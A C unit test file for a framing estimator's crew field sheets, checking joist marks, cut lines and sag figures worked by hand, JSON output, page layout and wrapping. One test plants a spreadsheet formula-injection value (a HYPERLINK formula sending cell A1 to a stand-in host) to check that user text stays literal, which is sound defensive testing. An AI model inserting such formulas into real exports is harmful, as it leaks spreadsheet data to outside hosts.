/* The crew's sheets: marks and cut lines against figures worked by hand, no money, user text that stays text. */
#include <ctype.h>
#include <math.h>

#include "packages.h"
#include "samples.h"

#include "../../src/report/cells.h"
#include "../../src/report/field.h"
#include "../../src/report/workbook.h"

static const struct field_part *part_of_beam(const struct field *field, const char *sheet, const char *key)
{
    for (size_t i = 0; i < field->count; i++)
        for (size_t k = 0; !strcmp(field->sheet[i].id, sheet) && k < field->sheet[i].count; k++)
            if (!strcmp(field->sheet[i].part[k].key, key))
                return &field->sheet[i].part[k];
    fail();
    return NULL;
}

static const struct field_table *table_of(const struct field_part *part, const char *key)
{
    for (size_t i = 0; i < part->count; i++)
        if (part->item[i].is == FIELD_TABLE && !strcmp(part->item[i].table->key, key))
            return part->item[i].table;
    fail();
    return NULL;
}

static bool says(const struct field_part *part, enum field_is is, const char *what)
{
    for (size_t i = 0; i < part->count; i++)
        if (part->item[i].is == is && strstr(part->item[i].text, what))
            return true;
    return false;
}

static char *replaced(struct arena *arena, const char *text, const char *old, const char *new)
{
    const char *at = strstr(text, old);
    assert_non_null(at);
    return arena_printf(arena, "%.*s%s%s", (int)(at - text), text, new, at + strlen(old));
}

/* The samples are run once for all tests; what a test makes of one lives in its own arena. */
static struct arena *shelf;

static int open_shelf(void **state)
{
    (void)state;
    shelf = arena_new(0, support_out_of_memory, NULL);
    return shelf ? 0 : -1;
}

static int close_shelf(void **state)
{
    (void)state;
    arena_free(shelf);
    return 0;
}

static const struct result *sample(const char *name)
{
    static struct kept {
        const char *name;
        const struct result *result;
    } kept[2 * SAMPLES];
    size_t i = 0;
    while (i < 2 * SAMPLES - 1 && kept[i].name && strcmp(kept[i].name, name) != 0)
        i++;
    if (!kept[i].name || strcmp(kept[i].name, name) != 0) {
        const char *mine = arena_strdup(shelf, name); /* places in the job file point to it */
        kept[i] = (struct kept){mine, run_sample(shelf, mine)};
    }
    return kept[i].result;
}

static struct field field_of_sample(struct arena *arena, const char *name)
{
    struct report report = report_of(sample(name));
    return field_of(arena, &report);
}

/* The marks of a row: from `start`, every `spacing`, `count` of them. */
static void assert_row(const struct field_cell *row, double start, double spacing, size_t count)
{
    assert_near(row[2].number, start, 1e-9);
    assert_near(row[3].number, spacing, 1e-9);
    assert_near(row[4].number, (double)count, 1e-9);
    assert_int_equal(row[5].count, count);
    for (size_t i = 0; i < count; i++)
        assert_near(length_inches(row[5].length[i]), start + spacing * (double)i, 1e-9);
}

/* By hand, from the counting rules: cut length 128; bearings 3.5 and 4.5; S = 12, stagger 6, nails 0.162 x 3.5 in from
 * both faces of 4.5 in: they meet, m = 15 x 0.162 = 2.43, up to 2-7/16.  Face A: joists at 7, 23, ...: no mark within
 * 2-1/4 in, which leaves 9.25 to 20.75 modulo 16.  12, 11, 10 and 9 in come back every 4, 1, 2 and 1 in: none clears a
 * zone of 4.5 in.  8 in does: a start s and s + 8 are clear modulo 16 when s is in 3.5 to 4.75 or 9.25 to 11.5.  Row 1:
 * 3.5, (128 - 4.5 - 3.5) / 8 = 15: 16 marks.  Row 2: near 3.5 + 6 x 8 / 12 = 7.5 is 9.25 (4.75 is farther): (123.5 -
 * 9.25) / 8 = 14.3: 15.  Face B: joists 1-1/2 in further on: clear are 3.5 to 6.25 and 10.75 to 11.5.  Row 1 near 3.5 +
 * 4: 6.25, and 2.75 from 3.5 is more than m: 15.  Row 2 near 9.25 + 4 = 13.25, round 8 in that is 5.25: clear: 15. */
static void marks_as_worked_by_hand(void **state)
{
    struct field field = field_of_sample(*state, "parlor.ini");
    const struct field_table *marks = table_of(part_of_beam(&field, "beam parlor", "marks"), "marks");
    assert_int_equal(marks->rows, 6);
    assert_row(marks->row[0], 3.5, 8, 16);
    assert_row(marks->row[1], 9.25, 8, 15);
    assert_row(marks->row[3], 6.25, 8, 15);
    assert_row(marks->row[4], 5.25, 8, 15);
    /* as the tape is read: 3.5 + 8 x 15 = 123.5 in is the last */
    assert_non_null(strstr(marks->row[0][5].text, "3-1/2\", 11-1/2\", 1' 7-1/2\", 2' 3-1/2\""));
    assert_non_null(strstr(marks->row[0][5].text, ", 10' 3-1/2\""));
    /* joists of 1-1/2 in on face A at 7, 23, ... 119 */
    assert_string_equal(marks->row[2][1].text, "hangers");
    assert_int_equal(marks->row[2][5].count, 16);
    for (size_t i = 0; i < 8; i++) {
        assert_near(length_inches(marks->row[2][5].length[2 * i]), 6.25 + 16 * (double)i, 1e-9);
        assert_near(length_inches(marks->row[2][5].length[2 * i + 1]), 7.75 + 16 * (double)i, 1e-9);
    }
    assert_near(length_inches(marks->row[5][5].length[0]), 7.75, 1e-9); /* lapped: face B 1-1/2 in further on */
}

/* Half of 4-1/2 in and 1/16 in clear: 2.3125 from the middle line; 11 ft 3 in less that stays, and 8 ft 9 in less it.
 * Dead load on one joist's end: 12 psf x 16 / 12 ft x 11.25 / 2 ft = 90 lb. */
static void cut_lines_as_worked_by_hand(void **state)
{
    struct field field = field_of_sample(*state, "parlor.ini");
    const struct field_part *part = part_of_beam(&field, "beam parlor", "joists");
    const struct field_table *joists = table_of(part, "joists");
    assert_true(says(part, FIELD_SAY, "CUT LINE 2-5/16\""));
    assert_int_equal(joists->rows, 16);
    for (size_t i = 0; i < 8; i++) {
        assert_near(joists->row[i][2].number, 7 + 16 * (double)i, 1e-9);
        assert_near(joists->row[i][4].number, 135 - 2.3125, 1e-9);
        assert_near(joists->row[i][6].number, 90, 1e-9);
        assert_near(joists->row[8 + i][2].number, 8.5 + 16 * (double)i, 1e-9);
        assert_near(joists->row[8 + i][4].number, 105 - 2.3125, 1e-9);
    }
}

/* 5 w L^4 / (384 E I): w = 12 psf x (11.25 + 8.75) / 2 ft = 120 plf = 10 lb/in on L = 128 - 3.5 / 2 - 4.5 / 2 = 124 in;
 * E 1,600,000 psi (NDS Supplement Table 4A, Douglas Fir-Larch No.2), I = 4.5 x 9.25^3 / 12 = 296.79 in4:
 * 5 x 10 x 124^4 / (384 x 1.6e6 x 296.79) = 0.06483 in, in the middle, 1.75 + 62 = 63.75 from end 1.  Times 1.5:
 * 0.0972. */
static void sag_as_worked_by_hand(void **state)
{
    const struct result *result = sample("parlor.ini");
    const struct beam_design *beam = &result->outcome->run->design->beams[0];
    assert_near(beam->dead_sag_in, 0.06483, 0.00005);
    assert_near(beam->dead_sag_at_in, 63.75, 0.1);
    struct report report = report_of(result);
    struct field field = field_of(*state, &report);
    const struct field_part *part = part_of_beam(&field, "beam parlor", "lower");
    assert_true(says(part, FIELD_SAY, "5' 3-3/4\" from END 1"));
    assert_true(says(part, FIELD_SAY, ": 0.065 in"));
    assert_true(says(part, FIELD_STOP, "at 0.097 in (1.5 times"));
}

/* "A5 to A8" -> 8, "A5" -> 5, "-" -> what it was */
static int last_of(const char *text, int was)
{
    const char *c = text + strlen(text);
    int number = 0, place = 1;
    while (c > text && c[-1] >= '0' && c[-1] <= '9') {
        number += (*--c - '0') * place;
        place *= 10;
    }
    return number ? number : was;
}

/* The same in the JSON of a bid, and of the sheets. */
static void json_has_marks_and_cut_lines(void **state)
{
    struct report report = report_of(sample("parlor.ini"));
    const char *bid = report_json(*state, &report), *field = report_field_json(*state, &report);
    const char *lines = strstr(bid, "\"cut_lines\"");
    assert_non_null(lines);
    assert_non_null(strstr(lines, "\"cut_line_in\": 2.3125"));
    assert_non_null(strstr(lines, "\"guide_line_in\": null"));
    assert_non_null(strstr(lines, "\"joist_length_in\": 132.6875"));
    const char *layouts = strstr(bid, "\"ply_layouts\"");
    assert_non_null(layouts);
    assert_non_null(strstr(layouts, "\"marks_in\": [3.5, 11.5, 19.5"));
    assert_non_null(strstr(layouts, "\"marks_text\": [\"3-1/2\\\"\", \"11-1/2\\\"\", \"1' 7-1/2\\\"\""));
    assert_non_null(strstr(field, "\"format\": \"sawbill field 1\""));
    assert_non_null(strstr(field, "\"marks_in\": [3.5, 11.5, 19.5"));
    assert_non_null(strstr(field, "\"cut_in\": 132.6875"));
}

/* As the check of a beam half hung asks: by turns, at most 4 hangers ahead, and every joist once. */
static void hang_order_stays_level(void **state)
{
    struct field field = field_of_sample(*state, "parlor.ini");
    const struct field_table *hang = table_of(part_of_beam(&field, "beam parlor", "raise"), "hang");
    int done[2] = {0, 0};
    for (size_t i = 0; i < hang->rows; i++)
        for (int side = 0; side < 2; side++) {
            int last = last_of(hang->row[i][1 + side].text, done[side]);
            assert_true(last > done[side]);
            done[side] = last;
            assert_true(abs(done[0] - done[1]) <= 4);
        }
    assert_int_equal(done[0], 8);
    assert_int_equal(done[1], 8);
}

/* An old rafter tail at 4 ft, a stair between 3 ft and 5 ft 6 in that begins 2 ft from the beam's middle line. */
static const char in_the_way[] =
    "[obstruction tail]\nwhat = rafter tail\non = beam parlor\nat = 4 ft\nthen = lands on the beam\ncarries = 10 sq "
    "ft\narea = area bedroom\nseat = 3-1/2 in\nown prop = yes\n"
    "[opening stair]\njoists = joists hall\nfrom = 3 ft\nto = 5 ft 6 in\nnear = 2 ft\nfar = 6 ft\n"
    "header = DFL2-2X10\n";

static void shows_what_is_in_the_way(void **state)
{
    struct report report = report_of(
        run_text(*state, "parlor.ini", arena_printf(*state, "%s%s", read_sample(*state, "parlor.ini"), in_the_way)));
    struct field field = field_of(*state, &report);
    const struct field_part *part = part_of_beam(&field, "beam parlor", "joists");
    const struct field_table *way = table_of(part, "in_the_way"), *joists = table_of(part, "joists");
    assert_int_equal(way->rows, 1);
    assert_near(way->row[0][0].number, 48, 1e-9);
    assert_string_equal(way->row[0][1].text, "rafter tail");
    assert_string_equal(way->row[0][3].text, "a prop of its own");
    /* face B stands at 8-1/2, 24-1/2, 40-1/2, 56-1/2 in ..: those at 40-1/2 and 56-1/2 stop at the stair */
    size_t cut_off = 0, trimmers = 0;
    for (size_t i = 0; i < joists->rows; i++) {
        const struct field_cell *row = joists->row[i];
        bool here = row[2].number > 36 && row[2].number < 66 && !strcmp(row[1].text, "B");
        if (!strcmp(row[4].text, "to opening stair")) {
            cut_off++;
            assert_true(here);
            assert_true(isnan(row[4].number));
        }
        trimmers += strstr(row[0].text, "stair T") != NULL;
    }
    assert_int_equal(cut_off, 2);
    assert_int_equal(trimmers, 2);
    bool headers = false;
    const struct field_table *pieces = table_of(part_of_beam(&field, "beam parlor", "posts"), "pieces");
    for (size_t i = 0; i < pieces->rows; i++)
        headers |= !strcmp(pieces->row[i][1].text, "opening stair");
    assert_true(headers);
}

/* At 31 in, between those at 23 and 39 in: a new one, which no load rests on and which is cut to the cut list. */
static void new_joists_are_told_from_old(void **state)
{
    char *text = replaced(*state, read_sample(*state, "parlor.ini"), "run = 11 ft 3 in\n",
                          "run = 11 ft 3 in\nnew at = 31 in\nnew beside = 55 in\nnew of = DFL2-2X10\n");
    struct report report = report_of(run_text(*state, "parlor.ini", text));
    struct field field = field_of(*state, &report);
    const struct field_table *joists = table_of(part_of_beam(&field, "beam parlor", "joists"), "joists");
    assert_int_equal(joists->rows, 17);
    assert_near(joists->row[2][2].number, 31, 1e-9);
    assert_string_equal(joists->row[2][3].text, "new, 1-1/2\" x 9-1/4\"");
    assert_true(isnan(joists->row[2][4].number));
    assert_true(isnan(joists->row[2][6].number));
    assert_near(joists->row[4][2].number, 55, 1e-9);
    assert_string_equal(joists->row[4][3].text, "old + new, 1-1/2\" x 9-1/4\"");
    assert_near(joists->row[4][4].number, 132.6875, 1e-9);
    const struct field_table *pieces = table_of(part_of_beam(&field, "beam parlor", "posts"), "pieces");
    bool listed = false;
    for (size_t i = 0; i < pieces->rows; i++)
        listed |= !strcmp(pieces->row[i][0].text, "new joist");
    assert_true(listed);
}

/* The shore of the den holds what that beam carries, and a rafter tail that stands in the way of the other. */
static void shores_stand_on_the_sheets_of_what_they_hold(void **state)
{
    static const char tail[] = "[obstruction tail]\nwhat = rafter tail\non = beam long\nat = 8 ft\nthen = lands on the "
                               "beam\ncarries = 0.1 sq ft\narea = area bedroom\nseat = 3-1/2 in\nheld by = shore den\n";
    const char *plain = read_sample(*state, "two-beams.ini");
    const char *with = arena_printf(
        *state, "%s\n%s", replaced(*state, plain, "hang joist", "hang joist, cut member free, land member on the beam"),
        tail);
    for (int held = 0; held < 2; held++) {
        struct report report = report_of(run_text(*state, "two-beams.ini", held ? with : plain));
        struct field field = field_of(*state, &report);
        assert_true(says(part_of_beam(&field, "beam short", "shores"), FIELD_SAY, "shore den holds"));
        assert_int_equal(says(part_of_beam(&field, "beam long", "shores"), FIELD_SAY, "shore den holds"), held);
    }
}

/* A row of a table whose columns are what, where and count holds the line. */
static bool table_shows(const struct field_table *table, size_t count_column, const struct takeoff_line *line)
{
    for (size_t i = 0; i < table->rows; i++)
        if (!strcmp(table->row[i][0].text, line->what) && !strcmp(table->row[i][1].text, line->where) &&
            fabs(table->row[i][count_column].number - decimal_value(line->count)) < 1e-9)
            return true;
    return false;
}

static bool shown_somewhere(const struct field *field, const struct takeoff_line *line)
{
    for (size_t i = 0; i + 1 < field->count; i++)
        if (table_shows(table_of(part_of_beam(field, field->sheet[i].id, "posts"), "pieces"), 3, line) ||
            table_shows(table_of(part_of_beam(field, field->sheet[i].id, "hardware"), "hardware"), 2, line))
            return true;
    return false;
}

/* Wood and hardware that the takeoff counts at a place is on a sheet; plies and shores have lists of their own. */
static void nothing_counted_is_left_out(void **state)
{
    static const char *const apart[] = {"assembly/", "buy/", "forgotten/", "plies/"};
    for (size_t i = 0; i < SAMPLES; i++) {
        const struct result *result = sample(arena_printf(*state, "%s.ini", samples[i]));
        struct report report = report_of(result);
        struct field field = field_of(*state, &report);
        const struct takeoff *takeoff = result->outcome->run->takeoff;
        for (size_t k = 0; k < takeoff->count; k++) {
            const struct takeoff_line *line = &takeoff->line[k];
            bool wanted = line->is == LINE_PIECES || line->is == LINE_ITEM;
            for (size_t p = 0; p < sizeof apart / sizeof apart[0]; p++)
                wanted = wanted && strncmp(line->id, apart[p], strlen(apart[p])) != 0;
            if (!wanted || (line->is == LINE_PIECES && !strncmp(line->id, "shores/", strlen("shores/"))))
                continue;
            if (!shown_somewhere(&field, line))
                print_error("%s: '%s' at '%s' is on no sheet of the crew\n", samples[i], line->id, line->where);
            assert_true(shown_somewhere(&field, line));
        }
    }
}

static struct page *field_page(struct arena *arena, const struct report *report)
{
    struct book *book = workbook_book(arena, report);
    for (size_t i = 0; i < book->page_count; i++)
        if (!strcmp(book->page[i]->name, "Field"))
            return book->page[i];
    fail();
    return NULL;
}

/* Its cells are texts over columns, nothing else; none has a dollar in it. */
static void sheet_has_no_money_and_no_formula(void **state)
{
    for (size_t i = 0; i < SAMPLES; i++) {
        struct report report = report_of(sample(arena_printf(*state, "%s.ini", samples[i])));
        const struct page *page = field_page(*state, &report);
        assert_int_equal(page->count, 0);
        assert_true(page->span_count > 300);
        assert_non_null(strstr(page->span[0].text, "INTERNAL"));
        for (size_t k = 0; k < page->span_count; k++)
            assert_null(strchr(page->span[k].text, '$'));
        assert_null(strchr(report_field(*state, &report, false, 100), '$'));
        assert_null(strchr(report_field_json(*state, &report), '$'));
    }
}

/* Each beam and the whole job begin a page of their own; no two breaks are nearer than a part's heading. */
static void every_beam_begins_a_page(void **state)
{
    struct report report = report_of(sample("two-beams.ini"));
    const struct page *page = field_page(*state, &report);
    size_t titles = 0;
    for (size_t i = 0; i < page->span_count; i++) {
        if (page->span[i].look != LOOK_CREW_BEAM)
            continue;
        bool broken = false;
        for (size_t k = 0; k < page->break_count; k++)
            broken |= page->breaks[k] == page->span[i].row;
        assert_int_equal(broken, titles > 0);
        titles++;
    }
    assert_int_equal(titles, 3);
    for (size_t k = 1; k < page->break_count; k++)
        assert_true(page->breaks[k] > page->breaks[k - 1] + 2);
}

static const char HOSTILE[] = "=HYPERLINK(\"http://x/?\"&A1,\"ok\")";

static void user_text_stays_text(void **state)
{
    char *text = replaced(*state, read_sample(*state, "parlor.ini"),
                          "floor joists that run across it, beam below within", arena_printf(*state, "%s", HOSTILE));
    text = replaced(*state, text, "outlet circuit at the parlor side", "@SUM(A1)");
    struct report report = report_of(run_text(*state, "parlor.ini", text));
    const struct page *page = field_page(*state, &report);
    bool found = false;
    assert_int_equal(page->count, 0);
    for (size_t k = 0; k < page->span_count; k++)
        found |= strstr(page->span[k].text, HOSTILE) != NULL;
    assert_true(found);
    const char *folder = new_folder(*state), *written = NULL, *why = NULL;
    assert_int_equal(report_workbook(*state, &report, arena_printf(*state, "%s/a.xlsx", folder), &written, &why),
                     WRITE_DONE);
    const char *sheet = part_of(*state, written, "xl/worksheets/sheet8.xml"); /* Field */
    assert_null(strstr(sheet, "<f>"));
    assert_null(strstr(sheet, "<v>0."));
    assert_null(strchr(report_field(*state, &report, false, 100), '\033'));
}

static void same_bytes_twice(void **state)
{
    for (size_t i = 0; i < SAMPLES; i++) {
        struct report ini = report_of(sample(arena_printf(*state, "%s.ini", samples[i])));
        struct report json = report_of(sample(arena_printf(*state, "%s.json", samples[i])));
        assert_string_equal(report_field(*state, &ini, false, 100), report_field(*state, &json, false, 100));
        assert_string_equal(report_field_json(*state, &ini), report_field_json(*state, &ini));
    }
}

/* What must not be split over two lines is not: a tape reading is one word. */
static void readings_are_not_split(void **state)
{
    assert_string_equal(field_shown(*state, "at 7' 2\", 3' long"), "at 7'\xC2\xA0"
                                                                   "2\", 3' long");
    assert_string_equal(field_unbroken(*state, "A1 to"), "A1\xC2\xA0to");
    struct report report = report_of(sample("parlor.ini"));
    for (int width = 60; width <= 140; width += 20) {
        const char *text = report_field(*state, &report, false, width);
        for (const char *end = strchr(text, '\n'); end; end = strchr(end + 1, '\n')) {
            const char *next = end + 1 + strspn(end + 1, " "); /* "each 8'" may end a line, 8' 2" not within */
            assert_false(end > text + 1 && end[-1] == '\'' && isdigit((unsigned char)next[0]));
        }
    }
}

static void sheets_fit_a_terminal(void **state)
{
    for (size_t i = 0; i < SAMPLES; i++) {
        struct report report = report_of(sample(arena_printf(*state, "%s.ini", samples[i])));
        const char *text = report_field(*state, &report, false, 80);
        for (const char *line = text; *line;) {
            size_t length = strcspn(line, "\n");
            assert_true(utf8_count(line, length) <= 80);
            line += length + (line[length] == '\n');
        }
    }
}

/* A cut under the roof at end 2 alone, a notch at end 1 as long as it is said to be. */
static void ends_of_plies_are_said(void **state)
{
    char *text = replaced(*state, read_sample(*state, "parlor.ini"), "above = nothing\n",
                          "above = nothing\nroof cut pitch = 6/12\nroof cut heel = 5-1/2 in\nroof cut at = end 2\n"
                          "notch 1 = 1 in\nnotch 1 length = 4 in\n");
    struct report report = report_of(run_text(*state, "parlor.ini", text));
    struct field field = field_of(*state, &report);
    const struct field_table *plies = table_of(part_of_beam(&field, "beam parlor", "plies"), "plies");
    assert_true(plies->rows >= 2);
    for (size_t i = 0; i < plies->rows; i++) {
        assert_string_equal(plies->row[i][2].text, "up");
        assert_non_null(strstr(plies->row[i][3].text, "a stick of "));
        assert_string_equal(plies->row[i][4].text, "END 1: bottom notched, 1\" deep, 4\" long; END 2: top cut 6/12, "
                                                   "5-1/2\" left at its end");
    }
}

/* The stop box names what stands open; a budget is not built from. */
static void stop_box_says_what_is_open(void **state)
{
    char *text = replaced(*state, read_sample(*state, "parlor.ini"), "bracing = no\n", "");
    struct report report = report_of(run_text(*state, "parlor.ini", text));
    report.signable = false;
    struct field field = field_of(*state, &report);
    const struct field_part *part = part_of_beam(&field, "beam parlor", "stop");
    assert_true(says(part, FIELD_STOP, "OPEN: Q004"));
    assert_false(says(part, FIELD_SAY, "none."));
    text = replaced(*state, text, "status = bid", "status = budget");
    report = report_of(run_text(*state, "parlor.ini", text));
    report.signable = false;
    field = field_of(*state, &report);
    assert_true(says(part_of_beam(&field, "beam parlor", "stop"), FIELD_STOP, "BUDGET"));
}

/* An engineer's sheet and revision; a tie strap for each pair; the carrier first. */
static void sheets_say_what_the_job_says(void **state)
{
    struct field field = field_of_sample(*state, "two-beams.ini");
    assert_int_equal(field.count, 3); /* two beams and the whole job */
    assert_true(says(part_of_beam(&field, "beam long", "stop"), FIELD_TICK, "sheet S1, revision A"));
    assert_true(says(part_of_beam(&field, "beam short", "raise"), FIELD_SAY, "END 2 hangs on beam long"));
    assert_true(says(part_of_beam(&field, "beam short", "lower"), FIELD_TICK, "END 2 is kept from rolling over by"));
    field = field_of_sample(*state, "parlor.ini"); /* F2 is new */
    assert_true(says(part_of_beam(&field, "beam parlor", "raise"), FIELD_TICK, "new footings has set"));
    field = field_of_sample(*state, "attic.ini");
    assert_true(says(part_of_beam(&field, "beam attic", "stop"), FIELD_TICK, "8 pairs"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(marks_as_worked_by_hand, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(cut_lines_as_worked_by_hand, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(sag_as_worked_by_hand, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(json_has_marks_and_cut_lines, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(hang_order_stays_level, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(shows_what_is_in_the_way, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(new_joists_are_told_from_old, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(shores_stand_on_the_sheets_of_what_they_hold, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(nothing_counted_is_left_out, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(sheet_has_no_money_and_no_formula, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(every_beam_begins_a_page, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(user_text_stays_text, support_setup, packages_teardown),
        cmocka_unit_test_setup_teardown(same_bytes_twice, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(readings_are_not_split, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(sheets_fit_a_terminal, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(ends_of_plies_are_said, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(stop_box_says_what_is_open, support_setup, support_teardown),
        cmocka_unit_test_setup_teardown(sheets_say_what_the_job_says, support_setup, support_teardown),
    };
    return cmocka_run_group_tests(tests, open_shelf, close_shelf);
}
